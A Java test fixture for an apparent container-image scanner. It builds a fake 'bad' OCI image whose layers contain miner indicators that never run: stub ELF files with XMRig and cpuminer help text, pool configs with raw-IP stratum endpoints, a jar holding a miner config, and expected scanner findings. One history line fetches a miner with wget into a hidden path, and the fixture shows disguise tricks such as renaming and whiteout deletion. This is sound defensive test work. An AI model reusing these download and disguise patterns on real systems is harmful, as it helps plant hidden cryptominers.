package dev.palisade.scanner.it;

import dev.palisade.scanner.fixtures.Samples;
import dev.palisade.testing.History;
import dev.palisade.testing.ImageConfig;
import dev.palisade.testing.OciImage;
import dev.palisade.testing.Umoci;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The "bad" image of the integration tests, built with the real umoci. Every sample carries miner
 * indicators (help text, config keys, pool addresses, command-line arguments) without being a
 * miner: the ELF files are a bare ELF header followed by text, and nothing in them runs.
 *
 * <p>Layers, in order:
 * <ol start="0">
 *   <li>{@code app/hello.sh}: a harmless script, with a per-build id so that no two builds share
 *       this layer's digest (skopeo's blob cache then never substitutes a blob);</li>
 *   <li>{@code var/tmp/.font-unix/kworker}: an ELF file with XMRig's help text;</li>
 *   <li>a whiteout deleting it again (the miner is still in the image: layer 1 is still shipped);</li>
 *   <li>{@code etc/log_rot/config.json}: an XMRig config pointing at a raw IP on port 443;</li>
 *   <li>{@code usr/lib/systemd/log_rot}: a renamed "binary" with cpuminer's help text and the
 *       stratum protocol's method names;</li>
 *   <li>{@code opt/app/lib/plugin.jar}: a jar (built with java.util.zip) holding a miner config
 *       at {@code config/pools.json}.</li>
 * </ol>
 * The config runs the renamed binary with miner arguments, and layer 1's history says it was
 * downloaded as {@code xmrig}.
 */
final class MinerImage {

  static final String DELETED_MINER = "var/tmp/.font-unix/kworker";
  static final String RAW_IP_CONFIG = "etc/log_rot/config.json";
  static final String RENAMED_BINARY = "usr/lib/systemd/log_rot";
  static final String JAR = "opt/app/lib/plugin.jar";
  static final String JAR_ENTRY = "config/pools.json";
  static final String NESTED = JAR + "!/" + JAR_ENTRY;

  static final List<String> ENTRYPOINT = List.of("/" + RENAMED_BINARY);
  static final List<String> CMD = List.of("-o", "stratum+tcp://203.0.113.9:443", "--donate-level", "1", "-a", "rx/0");
  static final String DOWNLOAD_STEP = "RUN wget -q http://203.0.113.9/xmrig -O /" + DELETED_MINER;

  /**
   * What the default rules must report for this image, in {@link Findings#describe} form: rule,
   * layer, path, and where the path's life began and ended.
   */
  static final List<String> EXPECTED_FINDINGS = List.of(
      // The image config: what runs, and how layer 1 was made.
      "miner.cli.arguments config config.Cmd",
      "miner.pool.raw-ip-endpoint config config.Cmd",
      "miner.stratum.uri config config.Cmd",
      "miner.config.tool-name config history[1].created_by",
      // Layer 1: the miner a later layer deleted is still reported, with deletedIn.
      "miner.xmrig.binary layer 1 " + DELETED_MINER + " added 1 deleted 2",
      // Layer 3: an XMRig config with a raw-IP pool.
      "miner.config.xmrig layer 3 " + RAW_IP_CONFIG + " added 3",
      "miner.pool.raw-ip-endpoint layer 3 " + RAW_IP_CONFIG + " added 3",
      // Layer 4: a miner renamed after a system log rotator.
      "miner.cpuminer.binary layer 4 " + RENAMED_BINARY + " added 4",
      "miner.stratum.client-binary layer 4 " + RENAMED_BINARY + " added 4",
      // Layer 5: a miner config inside a jar.
      "miner.config.xmrig layer 5 " + NESTED + " added 5",
      "miner.pool.known-domain layer 5 " + NESTED + " added 5",
      "miner.stratum.uri layer 5 " + NESTED + " added 5");

  static final int LAYERS = 6;

  private MinerImage() {}

  /** Builds the bad image into {@code layout} under {@code tag} (amd64 unless {@code architecture} says otherwise). */
  static OciImage build(Umoci umoci, Path layout, String tag, String architecture) {
    OciImage image = umoci.newImage(layout, tag);
    addLayers(umoci, image);
    ImageConfig config = ImageConfig.unchanged()
        .withEntrypoint(ENTRYPOINT.toArray(String[]::new))
        .withCmd(CMD.toArray(String[]::new))
        .withHistory(History.NONE);
    if (architecture != null) {
      config = config.withArchitecture(architecture);
    }
    umoci.configure(image, config);
    return image;
  }

  /** Adds the six layers above to {@code image} (whatever it holds already). */
  static void addLayers(Umoci umoci, OciImage image) {
    umoci.insertFile(image, "/app/hello.sh", utf8("#!/bin/sh\n# build " + UUID.randomUUID() + "\necho hello\n"),
        History.createdBy("COPY hello.sh /app/hello.sh"));
    umoci.insertFile(image, "/" + DELETED_MINER, xmrigLikeElf(), History.createdBy(DOWNLOAD_STEP));
    umoci.insertWhiteout(image, "/" + DELETED_MINER, History.createdBy("RUN rm -f /" + DELETED_MINER));
    umoci.insertFile(image, "/" + RAW_IP_CONFIG, utf8(RAW_IP_CONFIG_JSON),
        History.createdBy("COPY config.json /" + RAW_IP_CONFIG));
    umoci.insertFile(image, "/" + RENAMED_BINARY, cpuminerLikeElf(),
        History.createdBy("COPY log_rot /" + RENAMED_BINARY));
    umoci.insertFile(image, "/" + JAR, jar(), History.createdBy("COPY plugin.jar /" + JAR));
  }

  /** An XMRig config whose pool is a raw IP on 443, as in the OneAPI incident. */
  static final String RAW_IP_CONFIG_JSON = """
      {
        "autosave": true,
        "donate-level": 0,
        "cpu": {"enabled": true, "huge-pages": true},
        "pools": [
          {"url": "198.51.100.23:443", "user": "x", "keepalive": true, "tls": false}
        ]
      }
      """;

  /** A bare ELF64 header followed by lines of XMRig's --help output and its banner. */
  static byte[] xmrigLikeElf() {
    return elf("""
        Usage: xmrig [OPTIONS]
        Network:
          -o, --url=URL                 URL of mining server
          -a, --algo=ALGO               mining algorithm https://xmrig.com/docs/algorithms
          -u, --user=USERNAME           username for mining server
              --donate-level=N          donate level, default 1% (1 minute in 100 minutes)
              --donate-over-proxy=N     control donate over xmrig-proxy feature
        CPU backend:
              --randomx-1gb-pages       use 1GB hugepages for RandomX dataset
              --cpu-max-threads-hint=N  maximum CPU threads count (in percentage) hint for autoconfig
        XMRig 6.21.0
        """);
  }

  /** A bare ELF64 header followed by lines of cpuminer's --help output and stratum method names. */
  static byte[] cpuminerLikeElf() {
    return elf("""
        Usage: minerd [OPTIONS]
        Options:
          -a, --algo=ALGO       specify the algorithm to use
                                  scrypt    scrypt(1024, 1, 1) (default)
                                  sha256d   SHA-256d
          -o, --url=URL         URL of mining server
          -O, --userpass=U:P    username:password pair for mining server
              --no-longpoll     disable long polling support
              --no-getwork      disable getwork support
              --no-stratum      disable X-Stratum support
              --coinbase-addr=ADDR  payout address for solo mining
        cpuminer 2.5.1
        mining.subscribe
        mining.authorize
        mining.submit
        mining.notify
        """);
  }

  /** 64 bytes of ELF64 little-endian x86-64 executable header, no sections, then {@code text}. */
  static byte[] elf(String text) {
    ByteBuffer header = ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN);
    header.put(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0});
    header.position(16);
    header.putShort((short) 2); // e_type: EXEC
    header.putShort((short) 0x3e); // e_machine: x86-64
    header.putInt(1); // e_version
    header.position(52);
    header.putShort((short) 64); // e_ehsize
    byte[] body = utf8("\0" + text + "\0");
    byte[] all = new byte[64 + body.length];
    System.arraycopy(header.array(), 0, all, 0, 64);
    System.arraycopy(body, 0, all, 64, body.length);
    return all;
  }

  /** A small jar: a manifest, a class-like blob, and the miner config at {@link #JAR_ENTRY}. */
  static byte[] jar() {
    try {
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
        zip.putNextEntry(new ZipEntry("META-INF/MANIFEST.MF"));
        zip.write(utf8("Manifest-Version: 1.0\r\nCreated-By: palisade tests\r\n\r\n"));
        zip.closeEntry();
        zip.putNextEntry(new ZipEntry("com/example/Plugin.txt"));
        zip.write(utf8("a harmless resource\n"));
        zip.closeEntry();
        zip.putNextEntry(new ZipEntry(JAR_ENTRY));
        zip.write(Samples.minerConfig());
        zip.closeEntry();
      }
      return bytes.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
